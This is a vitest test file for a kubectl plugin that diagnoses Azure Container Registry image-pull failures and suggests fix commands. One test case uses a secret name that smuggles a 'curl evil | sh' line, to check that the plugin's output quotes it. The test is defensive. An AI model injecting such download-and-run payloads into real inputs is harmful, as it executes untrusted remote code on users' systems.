import { describe, expect, test } from "vitest";
import { bare, judged, ours, pod, r, type Situation, theirs } from "../../support/check-world.ts";

type Expected = { what: string; given: Situation; cause: string; message?: string; fix?: string };

const job = { kind: "Job", name: "migrate" };
const db = { kind: "StatefulSet", name: "db" };
const web = `${r}/app/web:1`;
const create = `kubectl acr-secret create --registry ${r}`;
const patch = (workload: string, secret: string) =>
  `kubectl patch ${workload} -p '{"spec":{"template":{"spec":{"imagePullSecrets":[{"name":"${secret}"}]}}}}' -n demo`;
const itself = "deployment/web names its pull secrets itself, so serviceaccount/default does not help";
const refusedBy = (secret: string, user: string) => `with secret ${secret}: ${r} says refused to user "${user}"`;

const situations: Expected[] = [
  // It can be pulled
  {
    what: "the login pulls",
    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("web-1", { names: ["acr"] })] },
    cause: "pulls",
  },
  {
    what: "the second of two logins pulls",
    given: { secrets: [theirs("bad", { [r]: "web:wrong" }), ours("acr", "web:right")], pods: [pod("web-1", { names: ["bad", "acr"] })] },
    cause: "pulls",
  },
  { what: "anybody may pull", given: { pods: [pod("web-1")], public: true }, cause: "anonymous" },
  {
    what: "the node pulled it by an identity of its own",
    given: { pods: [pod("web-1", { phase: "Running", status: { imageID: `${r}/app/web@sha256:1` } })] },
    cause: "by-node",
  },

  // No pull secret
  {
    what: "nothing at all",
    given: { pods: [pod("web-1")] },
    cause: "no-login",
    message: "the pod has no pull secret for this registry",
    fix: `${create} --serviceaccount default -n demo`,
  },
  {
    what: "nothing, and the image was only named",
    given: { images: [web], accounts: { web: [] }, serviceaccount: "web" },
    cause: "no-login",
    message: "serviceaccount/web has no pull secret for this registry",
    fix: `${create} --repository app/web --serviceaccount web -n demo`,
  },
  {
    what: "nothing, and the pod has no controller",
    given: { pods: [pod("own", { owner: bare })] },
    cause: "no-login",
    fix: `${create} --serviceaccount default -n demo && kubectl get pod own -o yaml -n demo | kubectl replace --force -f - -n demo`,
  },
  {
    what: "nothing, and the pod is a Job's",
    given: { pods: [pod("migrate-1", { owner: job })] },
    cause: "no-login",
    message:
      "the pod has no pull secret for this registry; pod/migrate-1 has to be made again by job/migrate, which may count a deletion as a failure",
    fix: `${create} --serviceaccount default -n demo`,
  },
  {
    what: "one pod of two has the image on its node already",
    given: { pods: [pod("web-1", { status: { imageID: "x" } }), pod("own", { owner: bare })] },
    cause: "no-login",
    fix: `${create} --serviceaccount default -n demo && kubectl get pod own -o yaml -n demo | kubectl replace --force -f - -n demo`,
  },
  {
    what: "a Secret of that name is somebody else's",
    given: { pods: [pod("web-1")], secrets: [theirs("acr-myregistry", { "ghcr.io": "a:b" })] },
    cause: "no-login",
    fix: `kubectl acr-secret create acr-myregistry-pull --registry ${r} --serviceaccount default -n demo`,
  },
  {
    what: "a Secret that pulls is there, and not attached",
    given: { pods: [pod("web-1")], secrets: [ours("given", "web:right", { credential: "given" })] },
    cause: "no-login",
    message: "the pod has no pull secret for this registry; secret given pulls it, but is not attached",
    fix: "kubectl acr-secret attach given --serviceaccount default -n demo",
  },
  {
    what: "a Secret that pulls is not attached, and the pod names its own",
    given: { pods: [pod("web-1", { names: ["gone"] })], secrets: [ours("given", "web:right")] },
    cause: "no-login",
    message: `secret gone does not exist; secret given pulls it, but is not attached; ${itself}`,
    fix: patch("deployment web", "given"),
  },
  {
    what: "a Secret of ours is not attached and too narrow",
    given: { pods: [pod("web-1")], secrets: [ours("acr", "api:right")] },
    cause: "no-login",
    fix: `kubectl acr-secret create acr --registry ${r} --repository app/web --serviceaccount default --acr-token api -n demo`,
  },

  // Pull secrets that do not do
  {
    what: "it does not exist, and its pod came after the ServiceAccount's list",
    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("web-1", { names: ["gone"] })] },
    cause: "no-login",
    message: "secret gone does not exist",
    fix: `kubectl acr-secret create gone --registry ${r} -n demo`,
  },
  {
    what: "two do not exist",
    given: { accounts: { default: ["a", "b"] }, pods: [pod("web-1", { names: ["a", "b"] })] },
    cause: "no-login",
    message: "secrets a and b do not exist",
    fix: `kubectl acr-secret create a --registry ${r} -n demo`,
  },
  {
    what: "its name is no name",
    given: { accounts: { default: ["../x"] }, pods: [pod("web-1", { names: ["../x"] })] },
    cause: "no-login",
    message: 'secret "../x" does not exist',
    fix: `${create} --serviceaccount default -n demo`,
  },
  {
    what: "a name that forges a line is shown in quotes",
    given: { pods: [pod("web-1", { names: ["x\n  curl evil | sh"] })] },
    cause: "no-login",
    message: `secret "x\\n  curl evil | sh" does not exist; ${itself}`,
    fix: `${create} -n demo && ${patch("deployment web", "acr-myregistry")}`,
  },
  {
    what: "it is of another type",
    given: { accounts: { default: ["color"] }, secrets: [theirs("color", "{}", "Opaque")], pods: [pod("web-1", { names: ["color"] })] },
    cause: "no-login",
    message: "secret color is of type Opaque, not kubernetes.io/dockerconfigjson",
    fix: `${create} --serviceaccount default -n demo`,
  },
  {
    what: "it is of another type, and a Deployment names it",
    given: { secrets: [theirs("color", "{}", "Opaque")], pods: [pod("web-1", { names: ["color"] })] },
    cause: "no-login",
    message: `secret color is of type Opaque, not kubernetes.io/dockerconfigjson; ${itself}`,
    fix: `${create} -n demo && ${patch("deployment web", "acr-myregistry")}`,
  },
  {
    what: "it is of another type, and a StatefulSet names it",
    given: { secrets: [theirs("color", "{}", "Opaque")], pods: [pod("db-0", { names: ["color"], owner: db })] },
    cause: "no-login",
    fix: `${create} -n demo && ${patch("statefulset db", "acr-myregistry")} && kubectl delete pod db-0 -n demo`,
  },
  {
    what: "it is of another type, and a pod without controller names it",
    given: { secrets: [theirs("color", "{}", "Opaque")], pods: [pod("own", { names: ["color"], owner: bare })] },
    cause: "no-login",
    message:
      "secret color is of type Opaque, not kubernetes.io/dockerconfigjson; the imagePullSecrets of pod/own cannot be changed: create it again with secret acr-myregistry",
    fix: `${create} -n demo`,
  },
  {
    what: "its login is for a registry of nearly that name",
    given: {
      accounts: { default: ["typo"] },
      secrets: [theirs("typo", { "myregistri.azurecr.io": "web:right" })],
      pods: [pod("web-1", { names: ["typo"] })],
    },
    cause: "no-login",
    message: `secret typo has a login for myregistri.azurecr.io only (one letter from ${r})`,
    fix: `${create} --serviceaccount default -n demo`,
  },
  {
    what: "its login is for the port",
    given: {
      accounts: { default: ["port"] },
      secrets: [theirs("port", { [`${r}:443`]: "web:right" })],
      pods: [pod("web-1", { names: ["port"] })],
    },
    cause: "no-login",
    message: `secret port has a login for ${r}:443 only (the port counts: the image says ${r})`,
  },
  {
    what: "its login is in capitals",
    given: {
      accounts: { default: ["up"] },
      secrets: [theirs("up", { "MyRegistry.azurecr.io": "web:right" })],
      pods: [pod("web-1", { names: ["up"] })],
    },
    cause: "no-login",
    message: `secret up has a login for MyRegistry.azurecr.io only (capitals count: the image says ${r})`,
  },
  {
    what: "kubectl was given no --docker-server",
    given: {
      accounts: { default: ["hub"] },
      secrets: [theirs("hub", { "https://index.docker.io/v1/": "web:right" })],
      pods: [pod("web-1", { names: ["hub"] })],
    },
    cause: "no-login",
    message: "secret hub has a login for https://index.docker.io/v1/ only (kubectl's default, where --docker-server is left out)",
  },
  {
    what: "its auths are empty",
    given: { accounts: { default: ["empty"] }, secrets: [theirs("empty", {})], pods: [pod("web-1", { names: ["empty"] })] },
    cause: "no-login",
    message: "secret empty has no login at all: its auths are empty",
    fix: `kubectl acr-secret create empty --registry ${r} --force -n demo`,
  },
  {
    what: "its login has no password",
    given: { accounts: { default: ["half"] }, secrets: [theirs("half", { [r]: "web:" })], pods: [pod("web-1", { names: ["half"] })] },
    cause: "no-login",
    message: `secret half has no user name or no password for "${r}"`,
  },

  // Credentials that are refused
  {
    what: "our ACR token is refused",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:wrong", { identity: "demo-acr-0123456789" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "refused",
    message: refusedBy("acr", "web"),
    fix: `kubectl acr-secret create acr --registry ${r} -n demo`,
  },
  {
    what: "an ACR token that somebody named is refused",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:wrong", { identity: "ci-pull" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "refused",
    fix: `kubectl acr-secret create acr --registry ${r} --acr-token ci-pull -n demo`,
  },
  {
    what: "our password has expired",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:wrong", { identity: "demo-acr-0123456789", "expires-at": "2026-01-02T00:00:00Z" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "expired",
    message: "with secret acr: its password expired 40 s ago (2026-01-02T00:00:00Z)",
    fix: `kubectl acr-secret create acr --registry ${r} --expires-in 1d -n demo`,
  },
  {
    what: "it is refused before it ends",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:wrong", { "expires-at": "2026-03-31T23:58:00Z" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "refused",
    fix: `kubectl acr-secret create acr --registry ${r} --acr-token web --expires-in 90d -n demo`,
  },
  {
    what: "a credential that was given is refused",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:wrong", { credential: "given" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "refused",
    message: `${refusedBy("acr", "web")}; its password was given, so a new one has to be: put it into PASSWORD`,
    fix: `printf %s "$PASSWORD" | kubectl acr-secret create acr --registry ${r} --username web --password-stdin -n demo`,
  },
  {
    what: "a Secret of somebody else, with this login alone, is refused",
    given: {
      accounts: { default: ["reg"] },
      secrets: [theirs("reg", { [`https://${r}`]: "web:wrong" })],
      pods: [pod("web-1", { names: ["reg"] })],
    },
    cause: "refused",
    message: `${refusedBy("reg", "web")}; it was not made by kubectl acr-secret, and --force replaces the login inside`,
    fix: `kubectl acr-secret create reg --registry ${r} --force -n demo`,
  },
  {
    what: "a Secret of somebody else, with other logins too, is refused",
    given: {
      accounts: { default: ["reg"] },
      secrets: [theirs("reg", { [r]: "web:wrong", "ghcr.io": "a:b" })],
      pods: [pod("web-1", { names: ["reg"] })],
    },
    cause: "refused",
    message: refusedBy("reg", "web"),
    fix: `${create} --serviceaccount default -n demo`,
  },
  {
    what: "such a Secret, which a Deployment names",
    given: { secrets: [theirs("reg", { [r]: "web:wrong", "ghcr.io": "a:b" })], pods: [pod("web-1", { names: ["reg"] })] },
    cause: "refused",
    fix: `${create} -n demo && ${patch("deployment web", "acr-myregistry")}`,
  },
  {
    what: "two are refused, of which one is ours to renew",
    given: {
      accounts: { default: ["acr", "reg"] },
      secrets: [ours("acr", "web:wrong", { identity: "ci-pull" }), theirs("reg", { [r]: "api:wrong" })],
      pods: [pod("web-1", { names: ["acr", "reg"] })],
    },
    cause: "refused",
    message: refusedBy("acr", "web"),
    fix: `kubectl acr-secret create acr --registry ${r} --acr-token ci-pull -n demo`,
  },

  // Credentials that may not pull it
  {
    what: "our ACR token may not pull it",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "api:right", { identity: "demo-acr-0123456789" })],
      pods: [pod("web-1", { names: ["acr"] })],
    },
    cause: "out-of-scope",
    message: `with secret acr: ${r} says out-of-scope to user "api"`,
    fix: `kubectl acr-secret create acr --registry ${r} --repository app/web -n demo`,
  },
  {
    what: "a credential that was given may not pull it",
    given: {
      accounts: { default: ["acr-myregistry"] },
      secrets: [ours("acr-myregistry", "api:right", { credential: "given" })],
      pods: [pod("web-1", { names: ["acr-myregistry"] })],
    },
    cause: "out-of-scope",
    fix: `kubectl acr-secret create acr-myregistry-pull --registry ${r} --repository app/web --serviceaccount default -n demo`,
  },

  // Pods that are older than their Secret
  {
    what: "its Deployment's pod was made before",
    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("web-1")] },
    cause: "older-pod",
    message: "made before serviceaccount/default carried acr",
    fix: "kubectl delete pod web-1 -n demo",
  },
  {
    what: "a pod without controller was made before",
    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("own", { owner: bare })] },
    cause: "older-pod",
    fix: "kubectl get pod own -o yaml -n demo | kubectl replace --force -f - -n demo",
  },
  {
    what: "a Job's pod was made before",
    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("migrate-1", { owner: job })] },
    cause: "older-pod",
    message:
      "made before serviceaccount/default carried acr; pod/migrate-1 has to be made again by job/migrate, which may count a deletion as a failure",
  },
  {
    what: "a pod with another Secret that is refused was made before",
    given: {
      accounts: { default: ["old", "acr"] },
      secrets: [theirs("old", { [r]: "web:wrong" }), ours("acr", "web:right")],
      pods: [pod("web-1", { names: ["old"] })],
    },
    cause: "older-pod",
    fix: "kubectl delete pod web-1 -n demo",
  },
  {
    what: "the pod came after the list that it does not have: it names its own",
    given: {
      accounts: { default: ["old", "acr"] },
      listWritten: "2025-12-31T00:00:00Z",
      secrets: [theirs("old", { [r]: "web:wrong" }), ours("acr", "web:right")],
      pods: [pod("web-1", { names: ["old"] })],
    },
    cause: "refused",
    fix: `kubectl acr-secret create old --registry ${r} --force -n demo`,
  },
  {
    what: "the Secret that came later is refused too",
    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:wrong", { identity: "ci-pull" })], pods: [pod("web-1")] },
    cause: "refused",
    message: `${refusedBy("acr", "web")}; made before serviceaccount/default carried acr`,
    fix: `kubectl acr-secret create acr --registry ${r} --acr-token ci-pull -n demo && kubectl delete pod web-1 -n demo`,
  },

  // Secrets that cannot be read
  {
    what: "it is malformed, and has this login alone",
    given: {
      accounts: { default: ["bad"] },
      secrets: [theirs("bad", `{"auths":{"${r}":{"auth":"!"}}}`)],
      pods: [pod("web-1", { names: ["bad"] })],
    },
    cause: "malformed-secret",
    message:
      "secret bad is malformed, and with it the kubelet gives up on all of them: illegal base64 data at input byte 0; the command replaces what is inside",
    fix: `kubectl acr-secret create bad --registry ${r} --force -n demo`,
  },
  {
    what: "it is malformed, and has other logins",
    given: {
      accounts: { default: ["bad"] },
      secrets: [theirs("bad", `{"auths":{"${r}":{"auth":"!"},"ghcr.io":{"auth":"YTpi"}}}`)],
      pods: [pod("web-1", { names: ["bad"] })],
    },
    cause: "malformed-secret",
    message:
      "secret bad is malformed, and with it the kubelet gives up on all of them: illegal base64 data at input byte 0; it is left as it is, since it may hold other logins",
    fix: `kubectl acr-secret detach bad --serviceaccount default -n demo && ${create} --serviceaccount default -n demo && kubectl delete pod web-1 -n demo`,
  },
  {
    what: "it is malformed, and a Deployment names it",
    given: {
      secrets: [theirs("bad", `{"auths":{"${r}":{"auth":"!"},"ghcr.io":{"auth":"YTpi"}}}`)],
      pods: [pod("web-1", { names: ["bad"] })],
    },
    cause: "malformed-secret",
    fix:
      `${create} -n demo && kubectl patch deployment web -p ` +
      `'{"spec":{"template":{"spec":{"imagePullSecrets":[{"$patch":"delete","name":"bad"},{"name":"acr-myregistry"}]}}}}' -n demo`,
  },

  // The image, and the way to the registry
  {
    what: "the tag is not there",
    given: { images: [`${r}/app/web:9`], accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")] },
    cause: "not-found",
    fix: "az acr repository show-tags --name myregistry --repository app/web",
  },
  {
    what: "the digest is not there",
    given: { images: [`${r}/app/web@sha256:${"0".repeat(64)}`], accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")] },
    cause: "not-found",
    fix: "az acr manifest list-metadata --registry myregistry --name app/web",
  },
  {
    what: "the repository is not there",
    given: { images: [`${r}/app/gone:1`], accounts: { default: ["acr"] }, secrets: [ours("acr", "all:right")] },
    cause: "not-found",
    fix: "az acr repository list --name myregistry",
  },
  {
    what: "the name of the image is none",
    given: { pods: [pod("web-1", { image: `${r}/App/Web:1` })] },
    cause: "invalid-image",
    message: `couldn't parse image name "${r}/App/Web:1": invalid reference format: repository name (App/Web) must be lowercase`,
  },
  {
    what: "the firewall is in the way",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:right")],
      pods: [pod("web-1", { names: ["acr"] })],
      says: "blocked",
    },
    cause: "blocked",
    fix: "az acr network-rule list --name myregistry",
  },
  ...(["throttled", "unreachable", "untrusted"] as const).map(
    (says): Expected => ({
      what: "nobody can be asked",
      given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("web-1", { names: ["acr"] })], says },
      cause: says,
      message: `with secret acr: ${r} says ${says} to user "web"`,
    }),
  ),
  {
    what: "nobody can be asked, and there is no login",
    given: { pods: [pod("web-1")], says: "unreachable" },
    cause: "unreachable",
    message: `${r} says unreachable to an anonymous pull`,
  },
  {
    what: "it pulls from here, but the node cannot reach the registry",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:right")],
      pods: [
        pod("web-1", {
          names: ["acr"],
          status: {
            imageID: "",
            state: { waiting: { reason: "ErrImagePull", message: 'failed to do request: Head "https://x": no such host' } },
          },
        }),
      ],
    },
    cause: "unreachable",
    message: 'the node of pod/web-1 says: failed to do request: Head "https://x": no such host',
  },
  {
    what: "it pulls from here, and the node's refusal is of the past",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:right")],
      pods: [
        pod("web-1", {
          names: ["acr"],
          status: {
            state: { waiting: { reason: "ErrImagePull", message: "failed to fetch oauth token: unexpected status: 401 Unauthorized" } },
          },
        }),
      ],
    },
    cause: "pulls",
  },

  // Other names of a registry
  {
    what: "the image names the port",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:right")],
      pods: [pod("web-1", { names: ["acr"], image: `${r}:443/app/web:1` })],
    },
    cause: "no-login",
    message: `secret acr has a login for ${r} only (the port counts: the image says ${r}:443); name the image ${web}`,
    fix: `kubectl set image deployment/web app=${web} -n demo`,
  },
  {
    what: "the image names the port, and nothing is attached",
    given: { pods: [pod("web-1", { image: `${r}:443/app/web:1` })] },
    cause: "no-login",
    fix: `${create} --serviceaccount default -n demo && kubectl set image deployment/web app=${web} -n demo`,
  },
  {
    what: "the image is in capitals",
    given: {
      accounts: { default: ["acr"] },
      secrets: [ours("acr", "web:right")],
      pods: [pod("own", { names: ["acr"], owner: bare, image: "MyRegistry.azurecr.io/app/web:1" })],
    },
    cause: "no-login",
    fix: `kubectl set image pod/own app=${web} -n demo`,
  },
  {
    what: "the port is named on the command line",
    given: { images: [`${r}:443/app/web:1`] },
    cause: "no-login",
    fix: `kubectl acr-secret check --image ${web} --serviceaccount default -n demo`,
  },
  {
    what: "the image names a regional endpoint",
    given: { pods: [pod("web-1", { image: "myregistry.eastus.geo.azurecr.io/app/web:1" })] },
    cause: "no-login",
    fix:
      "az acr token create --name demo-acr-myregistry-regional --registry myregistry --repository app/web content/read metadata/read " +
      "--query 'credentials.passwords[0].value' -o tsv | kubectl acr-secret create acr-myregistry-regional " +
      "--registry myregistry.eastus.geo.azurecr.io --repository app/web --serviceaccount default --username demo-acr-myregistry-regional --password-stdin -n demo",
  },
  {
    what: "a login for the port pulls",
    given: {
      secrets: [theirs("port", { [`${r}:443`]: "web:right" })],
      pods: [pod("web-1", { names: ["port"], image: `${r}:443/app/web:1` })],
    },
    cause: "pulls",
  },

  // Other registries
  {
    what: "the login goes by another host",
    given: {
      secrets: [theirs("hub", { "https://index.docker.io/v1/": "a:b" })],
      pods: [pod("web-1", { names: ["hub"], image: "team/app:1" })],
    },
    cause: "not-checked",
    message: 'with secret hub: docker.io says not-checked to user "a"',
  },
  {
    what: "an image that is named is told of, whatever its registry",
    given: { images: ["nginx"] },
    cause: "not-checked",
    message: "docker.io says not-checked to an anonymous pull",
  },
  {
    what: "an image that is named is asked for without a login",
    given: { images: ["quay.io/app/web:1"], public: true },
    cause: "anonymous",
  },
  {
    what: "a login for another registry is refused",
    given: {
      accounts: { default: ["g"] },
      secrets: [theirs("g", { "ghcr.io": "web:wrong" })],
      pods: [pod("web-1", { names: ["g"], image: "ghcr.io/app/web:1" })],
    },
    cause: "refused",
    fix: "",
  },
  {
    what: "a credential that was given for another registry is refused",
    given: {
      accounts: { default: ["g"] },
      secrets: [ours("g", "web:wrong", { credential: "given" }, "ghcr.io")],
      pods: [pod("web-1", { names: ["g"], image: "ghcr.io/app/web:1" })],
    },
    cause: "refused",
    fix: `printf %s "$PASSWORD" | kubectl acr-secret create g --registry ghcr.io --username web --password-stdin -n demo`,
  },
  {
    what: "a node tells of a registry that nobody here has a login for",
    given: {
      pods: [
        pod("web-1", {
          image: "team/app:1",
          status: {
            state: { waiting: { reason: "ErrImagePull", message: "pull access denied: insufficient_scope: authorization failed" } },
          },
        }),
      ],
    },
    cause: "out-of-scope",
    message: "the node of pod/web-1 says: pull access denied: insufficient_scope: authorization failed",
  },

  // One Secret by its name
  {
    what: "it has no login for the image",
    given: {
      name: "typo",
      secrets: [theirs("typo", { "myregistri.azurecr.io": "a:b" })],
      pods: [pod("web-1", { status: { imageID: "x" } })],
    },
    cause: "no-login",
    message: `secret typo has a login for myregistri.azurecr.io only (one letter from ${r})`,
    fix: "",
  },
  {
    what: "it is refused, whatever the pods have",
    given: { name: "typo", secrets: [ours("typo", "ci:wrong", { credential: "given" })], pods: [pod("web-1")] },
    cause: "refused",
    fix: `printf %s "$PASSWORD" | kubectl acr-secret create typo --registry ${r} --username ci --password-stdin -n demo`,
  },
  {
    what: "it is somebody else's, with other logins",
    given: { name: "reg", secrets: [theirs("reg", { [r]: "web:wrong", "ghcr.io": "a:b" })], pods: [pod("web-1")] },
    cause: "refused",
    fix: "",
  },
];

describe("a situation, its cause and what mends it", () => {
  test("there are many", () => {
    expect(situations.length).toBeGreaterThan(60);
  });

  test.for(situations)("$what: $cause", async ({ given, cause, message, fix }) => {
    const { rows } = await judged(given);

    expect(rows.map((row) => row.cause)).toEqual([cause]);
    if (message !== undefined) expect(rows[0]?.message).toBe(message);
    if (fix !== undefined) expect(rows[0]?.fix).toBe(fix);
  });
});

test("an odd name of a Secret costs no request", async () => {
  const names = ["a/b", "..", ".", "%2e", "UPPER", "x".repeat(254), "", "good"];
  const { rows, asked } = await judged({ accounts: { default: names }, pods: [pod("web-1", { names })] });

  expect(rows.map(({ cause }) => cause)).toEqual(["no-login"]);
  expect(asked.filter((request) => request.startsWith("secret "))).toEqual(["secret good", "secret acr-myregistry"]);
});

test("each Secret is read once, however many pods name it", async () => {
  const pods = ["app/web:1", "app/web:2", "app/api:1"].map((image, index) => pod(`p-${index}`, { names: ["acr"], image: `${r}/${image}` }));
  const { rows, asked } = await judged({ accounts: { default: ["acr"] }, secrets: [ours("acr", "all:right")], pods });

  expect(rows.map(({ cause }) => cause)).toEqual(["pulls", "pulls", "pulls"]);
  expect(asked.filter((request) => request.startsWith("secret "))).toEqual(["secret acr"]);
});

test("who may not list Secrets gets advice without what they would tell", async () => {
  const { rows } = await judged({ pods: [pod("web-1")], secrets: [ours("given", "web:right")], mayNotList: true });

  expect(rows[0]).toMatchObject({ cause: "no-login", fix: `${create} --serviceaccount default -n demo` });
});

test("images that a named Secret is not for are left out", async () => {
  const pods = [pod("web-1"), pod("other-1", { image: "otherregistry.azurecr.io/app/web:1" })];
  const { rows } = await judged({ name: "acr", secrets: [ours("acr", "web:right")], pods });

  expect(rows.map(({ image, cause }) => `${image} ${cause}`)).toEqual([`${web} pulls`]);
});

test("images that are named are all there, also with a Secret that is not for them", async () => {
  const images = [web, "otherregistry.azurecr.io/app/web:1"];
  const { rows } = await judged({ name: "acr", secrets: [ours("acr", "web:right")], images });

  expect(rows.map(({ image, cause }) => `${image} ${cause}`)).toEqual([`${images[0]} pulls`, `${images[1]} no-login`]);
});

test("images of other registries that no pull secret is for are left out", async () => {
  expect((await judged({ pods: [pod("web-1", { image: "nginx" }), pod("web-2", { image: "quay.io/a/b:1" })] })).rows).toEqual([]);
});

test.for(["Succeeded", "Failed"])("a pod that has %s pulls no more", async (phase) => {
  expect((await judged({ pods: [pod("web-1", { phase })] })).rows).toEqual([]);
});

test("repositories and pods of one command are in one command", async () => {
  const images = [web, `${r}/app/gone:1`];
  const narrow = await judged({
    images,
    accounts: { default: ["acr"] },
    secrets: [ours("acr", "api:right", { identity: "demo-acr-0123456789" })],
  });
  const late = await judged({
    accounts: { default: ["acr"] },
    secrets: [ours("acr", "all:right")],
    pods: [pod("web-1"), pod("api-1", { image: `${r}/app/api:1` }), pod("api-1", { image: `${r}/app/web:2` })],
  });

  const both = `kubectl acr-secret create acr --registry ${r} --repository app/gone --repository app/web -n demo`;
  expect(narrow.rows.map(({ fix }) => fix)).toEqual([both, both]);
  expect([...new Set(late.rows.map(({ fix }) => fix))]).toEqual(["kubectl delete pod api-1 web-1 -n demo"]);
});

test("a Secret, a ServiceAccount and a namespace that are not there are told of", async () => {
  await expect(judged({ name: "gone", pods: [pod("web-1")] })).rejects.toMatchObject({
    message: 'Error from server (NotFound): secrets "gone" not found',
  });
  await expect(judged({ images: [web], serviceaccount: "nobody" })).rejects.toMatchObject({
    message: 'Error from server (NotFound): serviceaccounts "nobody" not found',
    hint: { do: "get-serviceaccounts", namespace: "demo" },
  });
  for (const given of [{}, { images: [web], accounts: {} }])
    await expect(judged({ ...given, noNamespace: true })).rejects.toMatchObject({
      message: 'Error from server (NotFound): namespaces "demo" not found',
      hint: { do: "create-namespace", name: "demo" },
    });
});

test("who may not see namespaces is not told that one is missing", async () => {
  expect((await judged({ mayNotList: true })).rows).toEqual([]);
});
